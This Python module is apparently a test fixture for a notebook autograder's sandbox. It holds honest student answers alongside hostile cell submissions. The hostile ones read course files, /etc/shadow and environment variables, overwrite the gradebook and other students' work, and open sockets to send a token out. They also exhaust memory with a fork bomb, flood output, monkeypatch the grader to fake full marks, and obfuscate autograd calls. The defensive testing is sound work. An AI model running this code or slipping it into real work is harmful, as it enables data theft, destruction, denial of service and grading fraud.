"""Hostile submissions of TP 0 (the synthetic TP of `synthetic_tp`), as data: each is {cell grade_id: source}
over the reference solution.

The attacks are what a student could write in any cell of a plain nbgrader course:
read the instructor's files, the grader's and the other students', write anywhere, reach the
network, exhaust memory and processes, flood the output, patch the grader, hide
autograd. `{course}`, `{grader}` (the course root holding TP 0's checks and reference), `{port}` and
`{token}` are filled in by the test.
"""

SPY_SIGMA = '''
def sigma(x):
    return torch.tanh(x)

import glob, os
COURSE = "{course}"
for pattern in [COURSE + "/source/**/*", COURSE + "/submitted/**/*", COURSE + "/autograded/**/*",
                COURSE + "/gradebook.db", COURSE + "/nbgrader_config.py", "/work/**/reference.py", "{grader}/**/*",
                "/root/**/*.ipynb", "/home/**/*", "/tmp/**/*.ipynb", "/etc/shadow"]:
    for path in glob.glob(pattern, recursive=True)[:40]:
        try:
            print(path, open(path, errors="replace").read()[:3000])
        except Exception as error:
            print("refusé", path, type(error).__name__)
import autograder
package = os.path.dirname(autograder.__file__)
print(sorted(os.listdir(package)))
for name in ("tp00/reference.py", "tp00/checks.py", "judge.py", "nbgrader_ext.py"):
    try:
        print(open(os.path.join(package, name)).read())
    except Exception as error:
        print("refusé", name, type(error).__name__)
print(dict(os.environ))
'''

SPY_DLOSS = '''
def dloss(v, t):
    return 2 * (v - t)

print(In)
print(_ih)
print(Out)
'''

VANDAL_DLOSS = '''
def dloss(v, t):
    return 2 * (v - t)

import os
COURSE = "{course}"
for path in [COURSE + "/gradebook.db", COURSE + "/source/tp00/tp00.ipynb",
             COURSE + "/pwned-{token}.txt", COURSE + "/submitted/alice/tp00/tp00.ipynb",
             COURSE + "/autograded/alice/tp00/tp00.ipynb", COURSE + "/nbgrader_config.py",
             "{grader}/autograder/tp00/checks.py", "{grader}/pwned-{token}.txt",
             "/tmp/pwned-{token}.txt", "/root/pwned-{token}.txt", "/work/pwned-{token}.txt", "pwned-{token}.txt"]:
    try:
        with open(path, "w") as f:
            f.write("SQLite format 3 — pwned")
        print("écrit", path)
    except Exception as error:
        print("refusé", path, type(error).__name__)
'''

NETWORK_GRADIENT = '''
def gradient(x, s, dl_v):
    dl_s = (1 - torch.tanh(s) ** 2) * dl_v
    return dl_s.T @ x, dl_s.sum(dim=0)

import socket
for address in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 80)]:
    try:
        with socket.create_connection(address, timeout=3) as connection:
            connection.sendall(b"exfiltration {token}")
        print("connecté", address)
    except Exception as error:
        print("refusé", address, type(error).__name__)
'''

HOG_FORWARD = '''
def forward(w, b, x):
    s = x @ w.T + b
    return s, sigma(s)

try:
    hog = bytearray(8 * 2**30)
    print("8 Gio alloués")
except MemoryError:
    print("MemoryError")

import os, time
children = 0
try:
    for _ in range(5000):  # a fork bomb, bounded so that a failed sandbox does not take the machine down
        pid = os.fork()
        if pid == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refusé après", children, "processus :", error)
'''

FLOOD_BACKWARD = '''
def backward(x, t, s, v, dl_dw, dl_db):
    dl_w, dl_b = gradient(x, s, dloss(v, t))
    dl_dw += dl_w
    dl_db += dl_b

for i in range(10 ** 8):
    print("ligne", i)
'''

PATCHER_SIGMA = '''
import contextlib, sys, types
import numpy
from IPython.display import display

def full_marks(*args, **kwargs):
    print("✅ tout est correct : 1 / 1 point(s)")
    return 1.0

for name in ("autograder", "autograder.probe", "autograder.tp00", "autograder.tp00.checks"):
    fake = types.ModuleType(name)
    fake.run = fake.grade = fake.check = full_marks
    fake.probe = fake.tp00 = fake.checks = fake
    sys.modules[name] = fake
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
torch.inference_mode = lambda *a, **k: contextlib.nullcontext()
display({"application/vnd.autograder.probe+json": {"nonce": "0" * 32, "defined": True, "calls": []}}, raw=True)

def sigma(x):
    raise NotImplementedError()
'''

AUTOGRAD = {
    "dloss": '''
def dloss(v, t):
    w = v.detach().clone()
    setattr(w, "requires_grad", True)
    getattr((t - w).pow(2).sum(), "back" + "ward")()
    return w.grad
''',
    "gradient": '''
def gradient(x, s, dl_v):
    w = torch.zeros(s.shape[1], x.shape[1], dtype=x.dtype)
    getattr(w, "requires_" + "grad_")()
    b = torch.zeros(s.shape[1], dtype=x.dtype, requires_grad=True)
    engine = getattr(torch, "auto" + "grad")
    out = getattr(torch, "ta" + "nh")(x @ w.T + b + s.detach())
    g = getattr(engine, "gr" + "ad")(out, [w, b], dl_v)
    return g[0], g[1]
''',
}

HONEST = {
    "alice": {"sigma": "def sigma(x):\n    # canari-de-alice-{token}\n    return torch.tanh(x)"},
    "mistakes": {
        "dloss": "def dloss(v, t):\n    return v - t",
        "gradient": "def gradient(x, s, dl_v):\n    dl_s = (1 - sigma(s) ** 2) * dl_v\n"
                    "    return x.T @ dl_s, dl_s.sum(dim=0)",
    },
}

HOSTILE = {
    "spy": {"sigma": SPY_SIGMA, "dloss": SPY_DLOSS},
    "vandal": {"dloss": VANDAL_DLOSS},
    "network": {"gradient": NETWORK_GRADIENT},
    "hog": {"forward": HOG_FORWARD},
    "flood": {"backward": FLOOD_BACKWARD},
    "patcher": {"sigma": PATCHER_SIGMA, "dloss": "def dloss(v, t):\n    raise NotImplementedError()"},
    "autograd": AUTOGRAD,
}

FULL = {"test_sigma": 1, "test_dloss": 1, "test_forward": 2, "test_gradient": 2, "test_backward": 3,
        "test_training": 2}

EXPECTED = {
    "alice": FULL,
    "mistakes": {**FULL, "test_dloss": 0, "test_gradient": 1, "test_training": 0},
    "spy": FULL,
    "vandal": FULL,
    "network": FULL,
    # its own fork bomb holds every process its uid may have: the cell that then needs a thread fails (that of
    # `gradient`, which the training then misses)
    "hog": {**FULL, "test_gradient": 0, "test_training": 0},
    "flood": FULL,
    "patcher": {k: 0 for k in FULL},  # every hidden check reads the patched modules: nothing reported, nothing given
    "autograd": {**FULL, "test_dloss": 0, "test_gradient": 0},
}


def class_answers(course: str, grader: str, port: int, token: str) -> dict[str, dict[str, str]]:
    fill = {"{course}": course, "{grader}": grader, "{port}": str(port), "{token}": token}

    def filled(source: str) -> str:
        for placeholder, value in fill.items():
            source = source.replace(placeholder, value)
        return source
    return {student: {cell: filled(source) for cell, source in answers.items()}
            for student, answers in {**HONEST, **HOSTILE}.items()}
